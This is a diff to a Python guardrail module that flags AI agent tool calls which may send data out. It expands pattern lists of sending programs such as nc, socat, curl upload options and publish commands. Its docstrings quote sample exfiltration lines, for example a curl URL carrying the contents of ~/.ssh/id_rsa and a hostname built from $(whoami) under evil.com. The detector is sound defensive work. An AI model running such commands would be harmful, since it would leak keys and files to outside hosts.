@@ -28,36 +28,61 @@ from __future__ import annotations
 import fnmatch
 import re
 import shlex
+from collections import Counter
 from collections.abc import Iterable, Mapping, Sequence
+from itertools import pairwise
 
 from config.policy import ToolsPolicy
 from guardrails.datamodel import HistoryToolCall
 from guardrails.tools.arguments import parse_arguments
 from guardrails.tools.autorun import in_git_folder
 from guardrails.tools.catalog import lookup, strings
+from guardrails.tools.commands import WRAPPERS, program_name, unwrap
 from guardrails.tools.egress import urls_in
 from guardrails.tools.shell import unwrap_argv
 from guardrails.tools.sources import settings_kind
 
-_EXPANSION = r"(?:\$\(|\$\{?[A-Za-z_]|`)"
+_EXPANSION = r"(?:\$\(|\$\{?[A-Za-z_]|`|\{\})"
 _LOCAL_QUERY = re.compile(r"[a-z][a-z0-9+.-]*://[^\s'\"]*[?#&=/][^\s]*" + _EXPANSION
-                          + r"|(?:\$\([^)]*\)|`[^`]*`|\$\{?\w+\}?)\.[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}",
+                          + r"|(?:\$\([^)]*\)|`[^`]*`|\$\{?\w+\}?|\{\})\.[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}",
                           re.IGNORECASE)
 """A URL with a shell expansion in it (``https://h/?q=$(cat ~/.ssh/id_rsa)``), or an expansion
-spliced into a host name (``$(whoami).evil.com``: DNS carries it)."""
+spliced into a host name (``$(whoami).evil.com``: DNS carries it). ``{}`` is what ``xargs -I{}``,
+``find -exec`` and ``parallel`` fill in: ``cat notes | xargs -I{} curl "https://h/?q={}"``."""
+_CURL_FLAGS = "0-46#:aBfgGIijJklLMnNOpqRsSvVZ"
+"""curl's short options that take no value: a cluster of them may end in one that does (``-sd@f``)."""
+_CURL_HEADERS = r"(?:-[" + _CURL_FLAGS + r"]*[HAeub]|--header|--user-agent|--referer|--user|--cookie|--proxy-header)"
 _OPT_END = r"(?=[\s@='\"]|$)"
 _OPTIONS: dict[str, re.Pattern[str]] = {
-    "curl": re.compile(r"(?:^|\s)(?:-[a-zA-Z]*[dFT]" + _OPT_END + r"|--data[\w-]*|--form[\w-]*|--upload-file"
-                       r"|--json|-X\s*['\"]?(?:POST|PUT|PATCH|DELETE)|--request[\s=]*['\"]?(?:POST|PUT|PATCH|DELETE))"),
+    "curl": re.compile(r"(?:^|\s)(?:-[" + _CURL_FLAGS + r"]*[dFT]|--data[\w-]*|--form[\w-]*|--upload-file|--url-query"
+                       r"|--json|-X\s*['\"]?(?:POST|PUT|PATCH|DELETE)|--request[\s=]*['\"]?(?:POST|PUT|PATCH|DELETE)"
+                       r"|" + _CURL_HEADERS + r"(?:\s+|=)?['\"]?(?:@|[^\n;|&]*?(?:\$\(|`)))"),
     "wget": re.compile(r"--post-data|--post-file|--body-data|--body-file|--method[\s=]*['\"]?(?:POST|PUT|PATCH)"),
     "http": re.compile(r"(?:^|\s)(?:POST|PUT|PATCH)\s|\s[\w.-]+(?:=|:=|@)[^\s]|\s(?:-f|--form)\b"),
 }
-"""Programs that send data when one of these options (or, for httpie, data items) is in the line."""
+"""Programs that send data when one of these options (or, for httpie, data items) is in the line; for curl
+also a header, agent, referer, user or cookie read from a file (``-H @f``) or built by a command
+(``-H "X: $(cat f)"``: a variable such as ``$GITHUB_TOKEN`` in a header is the ordinary case and passes)."""
 _VERBS: dict[str, frozenset[str]] = {
-    "git": frozenset({"push", "send-email", "request-pull", "config", "remote add", "remote set-url"}),
+    "git": frozenset({"push", "send-email", "request-pull", "config", "remote add", "remote set-url", "send-pack",
+                      "http-push", "lfs push", "svn dcommit", "p4 submit"}),
     "gh": frozenset({"api", "* create", "* edit", "* comment", "* upload", "* review", "* merge", "* sync",
-                     "* set", "* push"}),
-    "npm": frozenset({"publish", "login", "adduser", "set", "config set", "config edit"}),
+                     "* set", "* push", "* add", "* cp", "workflow run"}),
+    "npm": frozenset({"publish", "login", "adduser", "set", "config set", "config edit", "npm publish",
+                      "npm login"}),
+    "bun": frozenset({"publish"}),
+    "deno": frozenset({"publish"}),
+    "hatch": frozenset({"publish"}),
+    "pdm": frozenset({"publish"}),
+    "flit": frozenset({"publish"}),
+    "maturin": frozenset({"publish", "upload"}),
+    "anaconda": frozenset({"upload"}),
+    "mvn": frozenset({"deploy"}),
+    "gradle": frozenset({"publish"}),
+    "dotnet": frozenset({"nuget push"}),
+    "nuget": frozenset({"push"}),
+    "helm": frozenset({"push"}),
+    "openssl": frozenset({"s_client"}),
     "pip": frozenset({"config set", "config edit"}),
     "uv": frozenset({"publish"}),
     "poetry": frozenset({"publish", "config"}),
@@ -68,21 +93,37 @@ _VERBS: dict[str, frozenset[str]] = {
 """Programs that send data (or change where they send it) by sub-command: the first one or two words
 that are not options (``*``: any first word, ``gh gist create``)."""
 _ALWAYS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp", "lftp", "mosh",
+                     "ssh-copy-id", "tftp",
                      "twine", "aws", "gsutil", "gcloud", "az", "rclone", "s3cmd", "sendmail", "mail", "mutt"})
 """Every use can carry data out."""
-_ALIASES = {"curlie": "curl", "https": "http", "xh": "http", "yarn": "npm", "pnpm": "npm", "podman": "docker"}
+_ALIASES = {"curlie": "curl", "https": "http", "xh": "http", "yarn": "npm", "pnpm": "npm", "podman": "docker",
+            "gradlew": "gradle", "mvnw": "mvn"}
 _SENDERS = frozenset({*_OPTIONS, *_VERBS, *_ALWAYS, *_ALIASES})
 _SEPARATORS = frozenset({";", "&&", "||", "|", "&", "(", ")", "|&", ";;", "\n"})
 _GIT_VALUE_OPTS = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path"})
-_REACHES = frozenset({*_SENDERS, "dig", "nslookup", "host", "ping", "drill", "kdig", "traceroute"})
+_REACHES = frozenset({*_SENDERS, "dig", "nslookup", "host", "ping", "drill", "kdig", "traceroute", "getent", "delv",
+                      "resolvectl", "whois", "ping6", "fping", "nmap", "tracepath", "mtr"})
 """Programs that reach the network at all: with a local expansion in a URL or host, a query."""
 _SENDING_NAME = re.compile(r"create|post|send|upload|push|publish|comment|gist|webhook|e?mail|message|share|"
                            r"submit", re.IGNORECASE)
 _DATA_PARAMS = frozenset({"body", "data", "payload", "json", "form", "files", "content", "text"})
 
 
+def _spellings(name: str) -> tuple[str, ...]:
+    """The names one MCP tool goes by: Claude Code qualifies it ``mcp__<server>__<tool>``, Codex (and
+    Gemini CLI on a clash) ``<server>__<tool>``. A qualified name also answers to the other
+    qualification and to its bare tool name, so ``mcp__*`` or ``fetch`` in ``untrusted_tools`` covers
+    the same server's results under every client (a miss would leave a conversation untainted; a
+    trusted tool whose bare name an untrusted pattern happens to match is only blocked from sending)."""
+    server_tool = name[5:] if name.startswith("mcp__") else name
+    if "__" not in server_tool.strip("_"):
+        return (name,)
+    return (name, "mcp__" + server_tool, server_tool.rsplit("__", 1)[1])
+
+
 def untrusted(name: str, patterns: Iterable[str]) -> bool:
-    return any(fnmatch.fnmatchcase(name, p) for p in patterns)
+    names = _spellings(name)
+    return any(fnmatch.fnmatchcase(n, p) for p in patterns for n in names)
 
 
 def sources(history: Sequence[HistoryToolCall], policy: ToolsPolicy, flagged: Sequence[str] = ()) -> list[str]:
@@ -114,17 +155,26 @@ def sends(name: str, arguments: str, effect: str, obs: Mapping[str, object], pol
     value, _ = parse_arguments(arguments)
     args: dict[str, object] = value if isinstance(value, dict) else {}
     out: list[str] = []
-    programs = {str(s.get("program")) for s in _dicts(obs.get("commands"))}
+    runs = Counter(str(s.get("program")) for s in _dicts(obs.get("commands")))
+    programs = set(runs)
     text = "\n".join(_command_lines(name, args, policy)) if programs else ""
     if not text and isinstance(value, str):
         text = value  # a freeform shell tool: the input is the command
     commands = _argvs(text)
     for program in sorted(programs & _SENDERS):
         # Each command of the line on its own when the line splits into commands that run this
-        # program; else (nested in ``$(...)``, quoted for another shell) the whole line is read.
+        # program; and the whole line when some of its runs are not among them (nested in ``$(...)``,
+        # quoted for another shell, behind a wrapper: ``curl URL; timeout 9 curl -d @f URL``).
         argvs: list[list[str] | None] = [a[1:] for a in commands or [] if a[0] == program]
-        why = [w for args in (argvs or [None]) if (w := _sends(program, args, text)) is not None]
+        if len(argvs) < runs[program]:
+            argvs.append(None)
+        why = [w for args in argvs if (w := _sends(program, args, text)) is not None]
         out += why[:1]
+    for argv in commands or []:
+        for inner in _nested(argv):  # python3 -m twine upload, docker run IMAGE curl -d @f, uvx twine
+            program = program_name(inner[0])
+            if program in _SENDERS and (w := _sends(program, inner[1:], text)) is not None:
+                out.append(w)
     if programs & _REACHES and _LOCAL_QUERY.search(text):
         out.append("a URL or host built from local content (a shell expansion in it)")
     for t in _dicts(obs.get("targets")):
@@ -149,6 +199,8 @@ def _sends(program: str, args: list[str] | None, text: str) -> str | None:
     kind = _ALIASES.get(program, program)
     if kind in _ALWAYS:
         return f"`{program}` can carry data out"
+    if kind == "git" and args is not None:
+        args = _git_alias(args)
     line = text if args is None else " ".join(args)
     if kind in _OPTIONS:
         m = _OPTIONS[kind].search(line)
@@ -162,6 +214,44 @@ def _sends(program: str, args: list[str] | None, text: str) -> str | None:
         elif (first in ("*", *words[:1])) and (not second or second in words[1:2]):
             return f"`{program} {' '.join(words[:2])}` sends data or changes where data goes"
     return None
+
+
+_RUNNERS = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc"})
+"""Programs whose ``run``/``exec`` operands end in a command they run (``docker run IMAGE CMD``)."""
+_LAUNCHERS = frozenset({"uvx", "npx", "pnpx", "bunx"})
+
+
+def _nested(argv: list[str]) -> list[list[str]]:
+    """Commands a command runs from its own operands, which the shell analysis records under the outer
+    program: ``python3 -m twine upload``, ``uvx twine``/``pipx run twine``, ``docker run IMAGE curl ...``
+    (the first word after ``run``/``exec`` that names a sending program), ``git submodule foreach CMD``."""
+    prog, args = program_name(argv[0]), argv[1:]
+    operands = [a for a in args if not a.startswith("-")]
+    if prog in ("python", "ipython") and "-m" in args[:-1]:
+        return [args[args.index("-m") + 1:]]
+    if prog in _LAUNCHERS and operands:
+        return [args[args.index(operands[0]):]]
+    if prog == "pipx" and operands[:1] == ["run"] and len(operands) > 1:
+        return [args[args.index(operands[1]):]]
+    if prog in _RUNNERS and {"run", "exec"} & set(operands[:2]):
+        start = args.index(next(o for o in operands if o in ("run", "exec")))
+        at = next((i for i in range(start + 1, len(args)) if program_name(args[i]) in _SENDERS), None)
+        return [] if at is None else [args[at:]]
+    if prog == "git" and "foreach" in operands[:3]:
+        return [a for a in _argvs(" ".join(shlex.quote(w) if " " not in w else w
+                                            for w in args[args.index("foreach") + 1:])) or []]
+    return []
+
+
+def _git_alias(args: list[str]) -> list[str]:
+    """``git -c alias.p=push p``: the sub-command an alias given in the line stands for."""
+    aliases = {a[6:].partition("=")[0]: a.partition("=")[2] for prev, a in pairwise(args)
+               if prev == "-c" and a[:6].lower() == "alias." and "=" in a}
+    words = _words(args)
+    if not words or words[0] not in aliases:
+        return args
+    at = args.index(words[0])
+    return [*args[:at], *aliases[words[0]].split(), *args[at + 1:]]
 
 
 def _words(args: list[str]) -> list[str]:
@@ -182,7 +272,7 @@ def _words(args: list[str]) -> list[str]:
 
 def _argvs(text: str) -> list[list[str]] | None:
     """The simple commands of a shell line as argv lists (program as its base name, leading
-    ``VAR=value`` and ``sudo``/``env``/``command``/``exec``/``nohup``/``time`` dropped); None when the
+    ``VAR=value`` dropped, wrappers looked through as the shell analysis does); None when the
     line does not split (unbalanced quotes)."""
     try:
         lexer = shlex.shlex(text.replace("\n", " ; "), posix=True, punctuation_chars=True)
@@ -197,6 +287,11 @@ def _argvs(text: str) -> list[list[str]] | None:
             while current and ("=" in current[0] and not current[0].startswith("=")
                                or current[0] in ("sudo", "env", "command", "exec", "nohup", "time")):
                 current.pop(0)
+            while current and program_name(current[0]) in WRAPPERS:  # timeout 9 curl, nice git, xargs curl
+                inner = unwrap(program_name(current[0]), list(current[1:]))
+                if inner is None or inner.script is not None or not inner.argv:
+                    break
+                current = [a for a in inner.argv if a is not None]
             if current:
                 out.append([current[0].rsplit("/", 1)[-1], *current[1:]])
             current = []
